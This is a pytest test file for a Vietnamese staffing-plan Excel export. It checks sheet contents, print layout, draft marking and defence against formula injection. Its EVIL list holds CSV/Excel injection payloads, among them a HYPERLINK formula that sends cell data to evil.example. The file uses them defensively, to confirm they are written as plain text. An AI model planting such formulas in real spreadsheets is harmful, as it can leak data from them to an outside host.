"""The plan workbook read back with openpyxl: every sheet against the plan, and no formula ever."""

from __future__ import annotations

import io
from datetime import date

import pytest
from export_readback import sheet_rows, zip_members
from flask import Flask
from openpyxl import load_workbook

from staffing.extensions import db
from staffing.models import Assignment, Person, PlanStatus, Position
from staffing.services import exports as service

SHEETS = [
    "Tổng hợp",
    "Định biên theo xã",
    "Danh sách bố trí",
    "Chưa bố trí",
    "Thiếu tiêu chuẩn",
    "Vị trí còn thiếu",
]


def test_workbook_lists_the_plan_person_by_person(export_app: Flask, staffed) -> None:
    plan = staffed["plan"]
    name, blob = service.workbook(plan)
    assert name == "phuong-an-1_Lang-Son.xlsx"
    wb = load_workbook(io.BytesIO(blob))
    assert wb.sheetnames == SHEETS
    placed = [a for a in staffed["assignments"] if a.position_id is not None]
    rows = {r["Họ và tên"]: r for r in sheet_rows(blob, "Danh sách bố trí")}
    assert set(rows) == {a.person.name for a in placed}
    for a in placed:
        row = rows[a.person.name]
        assert row["Vị trí, chức vụ mới"] == a.position.title
        assert row["Cơ quan, phòng, ban"] == a.position.department.name
        assert row["Mã xã"] == a.position.department.commune.code
        assert row["Số định danh"] == a.person.key
        assert row["Ngày sinh"].date() == a.person.birth_date
    assert rows["Nguyễn Văn A"]["Loại quyết định"] == "Bổ nhiệm"
    assert rows["Nguyễn Văn A"]["Cơ quan quyết định"] == "Chủ tịch Ủy ban nhân dân xã Đình Lập"
    assert rows["Nguyễn Văn E"]["Loại quyết định"] == "Điều động"
    assert rows["Hoàng Thị Lan"]["Cơ quan quyết định"] == "Ban Thường vụ Tỉnh ủy Lạng Sơn"
    assert rows["Nguyễn Văn D"]["Nguồn"] == "Thủ công"
    assert rows["Nguyễn Văn D"]["Khóa"] == "Có"

    unplaced = {r["Họ và tên"]: r for r in sheet_rows(blob, "Chưa bố trí")}
    assert set(unplaced) == {"Lý Văn Sáu", "Vi Văn Tám"}
    sau, tam = unplaced["Lý Văn Sáu"], unplaced["Vi Văn Tám"]
    assert (sau["Khung"], sau["Đủ điều kiện nghỉ hưu trước tuổi"], sau["Số năm đến tuổi nghỉ hưu"]) == (
        "<2",
        "Có",
        1.3,
    )
    assert "dưới 2 năm" in sau["Chính sách áp dụng"]
    assert sau["Nguồn số liệu"] == "Theo kết quả đề xuất"
    # born 09/1968, a man: 62 in 09/2030, retires 01/10/2030, 5.3 years after 01/07/2025
    assert tam["Nguồn số liệu"] == "Tính từ ngày sinh"
    assert tam["Ngày đủ tuổi nghỉ hưu"].date() == date(2030, 10, 1)
    assert (tam["Khung"], tam["Số năm đến tuổi nghỉ hưu"]) == ("5-10", 5.3)
    assert "0,9 × tiền lương × 60 tháng" in tam["Chính sách áp dụng"]
    assert "Nghị định 67/2025/NĐ-CP" in tam["Chính sách áp dụng"]

    gaps = sheet_rows(blob, "Thiếu tiêu chuẩn")
    assert [(g["Họ và tên"], g["Tiêu chuẩn chưa đạt"], g["Hiện có"]) for g in gaps] == [
        ("Nguyễn Văn A", "Lý luận chính trị ≥ Cao cấp", "Trung cấp"),
        ("Nguyễn Văn A", "Quy hoạch: Chủ chốt, Cấp trưởng", "Chưa có"),
    ]

    staffing = {r["Mã vị trí"]: r for r in sheet_rows(blob, "Định biên theo xã")}
    positions = db.session.scalars(db.select(Position)).all()
    ours = [p for p in positions if p.department.commune.province_code == "20"]
    assert set(staffing) == {p.code for p in ours}
    for p in ours:
        n = sum(1 for a in placed if a.position_id == p.id)
        row = staffing[p.code]
        assert (row["Tối thiểu"], row["Định biên (tối đa)"], row["Đã bố trí"]) == (
            p.min_holders,
            p.max_holders,
            n,
        )
        assert row["Còn trống"] == max(0, p.max_holders - n)
        assert row["Thiếu"] == max(0, p.min_holders - n)

    summary = sheet_rows(blob, "Tổng hợp")
    by_code = {r["Mã xã"]: r for r in summary if r["Mã xã"]}
    assert by_code["06613"]["Đã bố trí"] == 3
    assert by_code["06625"]["Đã bố trí"] == 3
    assert by_code["06613"]["Biên chế được giao"] == 3
    assert by_code["06613"]["Thiếu tiêu chuẩn (người)"] == 1
    total = next(r for r in summary if r["Tên xã, phường"] == "Tổng cộng")
    assert total["Đã bố trí"] == 6


def test_workbook_sheets_are_ready_to_print(export_app: Flask, staffed) -> None:
    _name, blob = service.workbook(staffed["plan"])
    wb = load_workbook(io.BytesIO(blob))
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A5"
        assert ws.auto_filter.ref
        assert ws.auto_filter.ref.startswith("A4:")
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.paperSize == 9
        assert ws.print_title_rows == "$4:$4"
        assert ws.column_dimensions["B"].width > 8
        assert "DỰ THẢO" not in (ws["A1"].value or "")


@pytest.mark.parametrize("staffed", [PlanStatus.DRAFT], indirect=True)
def test_draft_workbook_is_marked(export_app: Flask, staffed) -> None:
    plan = staffed["plan"]
    name, blob = service.workbook(plan)
    assert name.startswith("DU-THAO_")
    wb = load_workbook(io.BytesIO(blob))
    for ws in wb.worksheets:
        assert ws["A1"].value.startswith("DỰ THẢO - ")
        assert "DỰ THẢO" in ws.oddHeader.center.text


# xlsxwriter stores a CR as the OOXML escape _x000D_, which Excel decodes and openpyxl leaves as is.
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("staffed", [PlanStatus.DRAFT], indirect=True)  # an approved plan is frozen
def test_formula_injection_is_impossible(export_app: Flask, staffed) -> None:
    """Names and titles from rosters are data: written as text, read back verbatim, never formulas."""
    plan = staffed["plan"]
    seat = db.session.scalar(db.select(Position).where(Position.code == "06625/UBND/KT/3"))
    seat.max_holders = 10
    unit = staffed["assignments"][0].person.unit
    for n, evil in enumerate(EVIL):
        person = Person(
            province_code="20",
            key=f"0209990001{n:02d}",
            name=evil,
            birth_date=date(1985, 1, 1),
            gender="M",
            unit=unit,
            category="cong_chuc",
            current_title=evil,
            ratings=[],
            planned_for=[],
            preferences=[],
        )
        db.session.add(
            Assignment(
                plan=plan,
                person=person,
                position=seat if n % 2 else None,
                gaps=[{"attr": "field", "in": ["luat"], "value": evil}] if n % 2 else [],
            )
        )
    db.session.commit()
    _name, blob = service.workbook(plan)
    out = io.BytesIO()
    service.decisions_zip(plan, out)
    index = next(b for n, b in zip_members(out.getvalue()).items() if n.endswith(".xlsx"))
    seen = set()
    for book in (blob, index):
        wb = load_workbook(io.BytesIO(book))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str):
                        for evil in EVIL:
                            if evil.replace("\r", "_x000D_") in cell.value:
                                seen.add(evil)
                                assert cell.data_type == "s"
    assert seen == set(EVIL)
    placed_names = [r["Họ và tên"] for r in sheet_rows(blob, "Danh sách bố trí")]
    unplaced_names = [r["Họ và tên"] for r in sheet_rows(blob, "Chưa bố trí")]
    for n, evil in enumerate(EVIL):
        assert evil.replace("\r", "_x000D_") in (placed_names if n % 2 else unplaced_names)
